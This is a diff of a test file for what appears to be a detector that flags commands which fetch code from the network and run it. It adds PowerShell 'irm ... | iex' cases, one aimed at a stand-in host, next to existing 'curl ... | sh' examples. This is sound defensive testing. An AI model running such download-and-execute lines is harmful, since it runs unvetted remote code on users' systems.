@@ -77,6 +77,14 @@ describe("code that comes from the network and runs", () => {
       ["2 medium pipes a download from get.docker.com into sh"],
     ],
     [
+      "without a scheme, in PowerShell",
+      block('powershell -c "irm bun.sh/install.ps1 | iex"', "irm x.example/a.ps1 | iex"),
+      [
+        "2 medium runs a download from bun.sh in PowerShell",
+        "3 high runs a download from x.example in PowerShell",
+      ],
+    ],
+    [
       "without a scheme, next to the name of a file",
       block("curl -H accept.all -o run.sh $URL | sh"),
       ["2 high pipes a download into sh"],
